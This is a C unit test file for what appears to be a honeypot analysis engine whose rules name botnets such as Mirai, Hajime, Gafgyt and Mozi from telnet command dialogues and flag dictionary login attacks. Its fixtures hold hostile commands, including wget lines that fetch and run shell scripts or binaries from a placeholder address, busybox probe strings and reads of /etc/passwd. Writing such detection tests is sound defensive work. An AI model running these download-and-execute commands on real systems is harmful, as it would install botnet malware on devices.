/* What the rules say of dialogues as bots hold them, and that judging again says nothing new. */
#include "analyse/follow.h"
#include "base/err.h"
#include "record/wire.h"
#include "settings.h"
#include "store/store.h"

#include <ftw.h>
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include <cmocka.h>

#define START (INT64_C(1715299200) * USEC_PER_SEC)

struct judged {
    struct engine *engine;
    struct buf frames, tasks;
    size_t findings;
    char finding[64], evidence[600], rule[32]; /* of the last */
    struct id id;
};

/* The rules on dialogues; the others have tests of their own. */
static void judge_init(struct judged *j)
{
    size_t count, taken = 0;
    const struct rule *const *rules = rules_all(&count), *some[2];
    for (size_t i = 0; i < count; i++) {
        if (strcmp(rules[i]->name, "dictionary") == 0 || strcmp(rules[i]->name, "bot") == 0)
            some[taken++] = rules[i];
    }
    assert_int_equal(taken, 2);
    *j = (struct judged){.findings = 0};
    assert_int_equal(engine_new(&j->engine, some, taken, NULL), 0);
    buf_init(&j->frames, 0);
    buf_init(&j->tasks, 0);
}

static void judge_done(struct judged *j)
{
    engine_free(j->engine);
    assert_int_equal(j->tasks.len, 0);
    buf_done(&j->frames);
    buf_done(&j->tasks);
}

static void copy(char *to, size_t size, const struct fact *fact)
{
    assert_non_null(fact);
    (void)snprintf(to, size, "%.*s", (int)fact->text.len, (const char *)fact->text.at);
}

static size_t judge(struct judged *j, const struct record *record)
{
    size_t findings = 0;
    buf_clear(&j->frames);
    assert_int_equal(engine_judge(j->engine, record, &j->frames, &j->tasks, &findings), 0);
    struct cursor c = cursor_of(buf_as_span(&j->frames));
    for (size_t i = 0; i < findings; i++) {
        struct record finding;
        struct fact facts[RECORD_FACTS_MAX];
        assert_int_equal(wire_decode(&c, &finding, facts), 0);
        assert_int_equal(finding.kind, KIND_FINDING);
        assert_true(id_equal(finding.session, record->session));
        copy(j->finding, sizeof j->finding, record_fact(&finding, FACT_FINDING));
        copy(j->evidence, sizeof j->evidence, record_fact(&finding, FACT_EVIDENCE));
        copy(j->rule, sizeof j->rule, record_fact(&finding, FACT_RULE));
        j->id = finding.id;
    }
    assert_int_equal(cursor_left(&c), 0);
    j->findings += findings;
    return findings;
}

static size_t command(struct judged *j, unsigned session, const char *line)
{
    struct fact facts[] = {fact_text(FACT_COMMAND_LINE, span_text(line)), fact_text(FACT_NETWORK_PROTOCOL, span_text("telnet"))};
    uint8_t digest[10] = {(uint8_t)(session >> 8), (uint8_t)session};
    struct record record = {.id = id_new(START + 5),
                            .time = START + 5,
                            .sensor = span_text("s"),
                            .kind = KIND_COMMAND,
                            .source = {addr_v4(0xc0000201U), 5},
                            .session = id_digest(START, span_of(digest, sizeof digest)),
                            .facts = facts,
                            .fact_count = 2};
    return judge(j, &record);
}

/* A dialogue of a session of its own; what it was named, or "". */
static const char *named(struct judged *j, const char *const *lines)
{
    static unsigned session;
    session++;
    j->finding[0] = '\0';
    j->findings = 0;
    for (; *lines != NULL; lines++)
        (void)command(j, session, *lines);
    return j->finding;
}

#define DIALOGUE(...) ((const char *const[]){__VA_ARGS__, NULL})

static void bots_are_named(void **state)
{
    (void)state;
    struct judged j;
    judge_init(&j);
    assert_string_equal(named(&j, DIALOGUE("enable", "system", "shell", "sh", "/bin/busybox MIRAI")), "mirai");
    assert_string_equal(j.evidence, "/bin/busybox MIRAI");
    assert_string_equal(j.rule, "bot");
    assert_int_equal(j.findings, 1);
    assert_string_equal(named(&j, DIALOGUE("enable", "shell", "sh", "/bin/busybox ECCHI", "/bin/busybox ps; /bin/busybox ECCHI")), "mirai");
    assert_int_equal(j.findings, 1);
    assert_string_equal(
        named(&j, DIALOGUE("echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon")),
        "mirai");
    assert_string_equal(named(&j, DIALOGUE("enable", "system", "shell", "sh", "/bin/busybox QWXZK")), "mirai-like");
    assert_string_equal(
        named(&j, DIALOGUE("enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox ZKQWP",
                           "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox ZKQWP", "tftp; wget; /bin/busybox ZKQWP",
                           "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s", "/bin/busybox ZKQWP", "rm .s; exit")),
        "hajime");
    assert_int_equal(j.findings, 1);
    assert_string_equal(named(&j, DIALOGUE("sh", "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.9/b.sh; sh b.sh")),
                        "gafgyt");
    assert_string_equal(named(&j, DIALOGUE("/bin/busybox echo -e '\\147\\141\\171\\146\\147\\164'")), "gafgyt");
    assert_string_equal(named(&j, DIALOGUE("wget http://192.0.2.9:8080/Mozi.m -O /tmp/x")), "mozi");
    judge_done(&j);
}

static void people_are_not(void **state)
{
    (void)state;
    struct judged j;
    judge_init(&j);
    assert_string_equal(named(&j, DIALOGUE("ls -la", "cat /etc/passwd", "busybox ls", "/bin/busybox echo HELLO", "exit")), "");
    assert_string_equal(named(&j, DIALOGUE("enable", "configure terminal", "show version")), "");
    assert_string_equal(named(&j, DIALOGUE("/bin/busybox WHAT")), ""); /* without the opening it may be anyone */
    assert_string_equal(named(&j, DIALOGUE("", ";;", "   ", "busybox ", "busybox")), "");
    judge_done(&j);
}

static size_t login(struct judged *j, uint32_t source, usec_t time, const char *user, const char *password)
{
    struct fact facts[] = {fact_text(FACT_USER_NAME, span_text(user)), fact_text(FACT_PASSWORD, span_text(password))};
    struct record record = {.id = id_new(time),
                            .time = time,
                            .sensor = span_text("s"),
                            .kind = KIND_LOGIN,
                            .source = {addr_v4(source), 5},
                            .facts = facts,
                            .fact_count = 2};
    return judge(j, &record);
}

static void ten_different_credentials_are_a_dictionary(void **state)
{
    (void)state;
    struct judged j;
    judge_init(&j);
    char password[16];
    for (int i = 0; i < 40; i++)
        assert_int_equal(login(&j, 1, START + i, "root", "same"), 0);
    for (int i = 0; i < 8; i++) {
        (void)snprintf(password, sizeof password, "p%d", i);
        assert_int_equal(login(&j, 1, START + i, "root", password), 0);
        assert_int_equal(login(&j, 2, START + i, "root", password), 0);
    }
    assert_int_equal(login(&j, 1, START + 50, "root", "p0"), 0);
    assert_int_equal(login(&j, 1, START + 50, "admin", "p0"), 1);
    assert_string_equal(j.finding, "dictionary");
    struct id first = j.id;
    for (int i = 20; i < 60; i++) {
        (void)snprintf(password, sizeof password, "p%d", i);
        assert_int_equal(login(&j, 1, START + i, "root", password), 0); /* said once an hour */
    }
    for (int i = 0; i < 10; i++) {
        (void)snprintf(password, sizeof password, "p%d", i);
        (void)login(&j, 1, START + USEC_PER_HOUR + i, "root", password);
    }
    assert_int_equal(j.findings, 2);
    assert_false(id_equal(first, j.id));
    /* Judged anew from the start: the same ids. */
    struct judged again;
    judge_init(&again);
    for (int i = 0; i < 10; i++) {
        (void)snprintf(password, sizeof password, "x%d", i);
        (void)login(&again, 1, START + i, "root", password);
    }
    assert_int_equal(again.findings, 1);
    assert_true(id_equal(first, again.id));
    judge_done(&again);
    judge_done(&j);
}

static void states_are_saved_and_loaded(void **state)
{
    (void)state;
    struct judged before, after;
    judge_init(&before);
    judge_init(&after);
    char password[16];
    for (int i = 0; i < 9; i++) {
        (void)snprintf(password, sizeof password, "p%d", i);
        assert_int_equal(login(&before, 7, START + i, "root", password), 0);
    }
    struct buf saved;
    buf_init(&saved, 0);
    engine_save(before.engine, &saved);
    assert_int_equal(engine_load(after.engine, buf_as_span(&saved)), 0);
    assert_int_equal(login(&after, 7, START + 20, "root", "p3"), 0);
    assert_int_equal(login(&after, 7, START + 20, "root", "new"), 1);
    /* Damaged anywhere: refused or taken in part, never a crash; then it is as new. */
    for (size_t len = 0; len < saved.len; len++)
        (void)engine_load(after.engine, span_part(buf_as_span(&saved), 0, len));
    assert_int_equal(engine_load(after.engine, span_text("nonsense")), -ERR_MALFORMED);
    assert_int_equal(login(&after, 7, START + 20, "root", "one more"), 0);
    buf_done(&saved);
    judge_done(&before);
    judge_done(&after);
}

static void many_sources_stay_bounded(void **state)
{
    (void)state;
    struct judged j;
    judge_init(&j);
    for (uint32_t i = 0; i < 100000; i++) {
        (void)login(&j, i + 1, START, "root", "root");
        (void)command(&j, i, "enable");
    }
    struct buf saved;
    buf_init(&saved, 4 * 1024 * 1024);
    engine_save(j.engine, &saved);
    assert_int_equal(saved.error, 0);
    assert_true(saved.len <= ENGINE_SAVED_MAX + 1024);
    /* The newest are remembered. */
    assert_int_equal(engine_load(j.engine, buf_as_span(&saved)), 0);
    buf_done(&saved);
    judge_done(&j);
}

static int remove_one(const char *path, const struct stat *st, int type, struct FTW *where)
{
    (void)st;
    (void)type;
    (void)where;
    return remove(path);
}

/* Over day files, as the role does it: resumed anywhere, the findings are the same. */
static void rows_are_followed_from_any_place(void **state)
{
    (void)state;
    char folder[] = "/tmp/noroshi-analyse-XXXXXX", assignment[128];
    assert_non_null(mkdtemp(folder));
    struct conf *settings = NULL;
    struct conf_error error = {0};
    assert_int_equal(conf_parse(&settings, "test", span_text("{}"), settings_schema(), &error), 0);
    (void)snprintf(assignment, sizeof assignment, "store.folder=%s", folder);
    assert_int_equal(conf_override(settings, assignment, &error), 0);
    struct store *store = NULL;
    struct buf why, frames, tasks;
    buf_init(&why, 0);
    buf_init(&frames, 0);
    buf_init(&tasks, 0);
    assert_int_equal(store_open(&store, settings, &why), 0);
    for (int i = 0; i < 100; i++) {
        char password[16];
        (void)snprintf(password, sizeof password, "p%d", i);
        struct fact facts[] = {fact_text(FACT_USER_NAME, span_text("root")), fact_text(FACT_PASSWORD, span_text(password))};
        struct record record = {.id = id_new(START + i),
                                .time = START + i,
                                .sensor = span_text("s"),
                                .kind = i % 2 == 0 ? KIND_LOGIN : KIND_CONNECTION,
                                .source = {addr_v4(5), 5},
                                .facts = facts,
                                .fact_count = i % 2 == 0 ? 2 : 0};
        assert_int_equal(store_put(store, &record), 0);
    }
    assert_int_equal(store_commit(store), 0);
    struct judged j;
    judge_init(&j);
    struct follow follow;
    struct follow_day *day = NULL;
    follow_init(&follow, folder, j.engine);
    size_t findings = 0, all = 0, steps = 0;
    assert_int_equal(follow_step(&follow, 7, &frames, &tasks, &findings, &day), 0);
    assert_int_equal(follow_committed(&follow, START, 100), 0);
    int r;
    while ((r = follow_step(&follow, 7, &frames, &tasks, &findings, &day)) == 1) {
        all += findings;
        steps++;
    }
    assert_int_equal(r, 0);
    assert_int_equal(all, 1);
    assert_int_equal(steps, 15);
    assert_int_equal(day->followed, 100);
    assert_ptr_equal(follow_unsaved(&follow), day);
    day->saved = day->followed;
    assert_null(follow_unsaved(&follow));
    /* A day without a file is passed over. */
    assert_int_equal(follow_committed(&follow, START + USEC_PER_DAY, 5), 0);
    assert_int_equal(follow_step(&follow, 7, &frames, &tasks, &findings, &day), 1);
    assert_int_equal(follow_step(&follow, 7, &frames, &tasks, &findings, &day), 0);
    /* PLACE: from row 10 on, without states. */
    struct buf place;
    buf_init(&place, 0);
    buf_be(&place, 1, 4);
    buf_be(&place, (uint64_t)(START / USEC_PER_DAY), 4);
    buf_be(&place, 10, 8);
    assert_int_equal(follow_place(&follow, buf_as_span(&place)), 0);
    assert_int_equal(follow_committed(&follow, START, 100), 0);
    all = 0;
    while (follow_step(&follow, 1000, &frames, &tasks, &findings, &day) == 1)
        all += findings;
    assert_int_equal(all, 1);
    assert_int_equal(follow_place(&follow, span_of("\0\0\0\11", 4)), -ERR_MALFORMED);
    follow_done(&follow);
    judge_done(&j);
    store_close(store);
    conf_free(settings);
    buf_done(&why);
    buf_done(&frames);
    buf_done(&tasks);
    buf_done(&place);
    (void)nftw(folder, remove_one, 16, FTW_DEPTH | FTW_PHYS);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(bots_are_named),
        cmocka_unit_test(people_are_not),
        cmocka_unit_test(ten_different_credentials_are_a_dictionary),
        cmocka_unit_test(states_are_saved_and_loaded),
        cmocka_unit_test(many_sources_stay_bounded),
        cmocka_unit_test(rows_are_followed_from_any_place),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
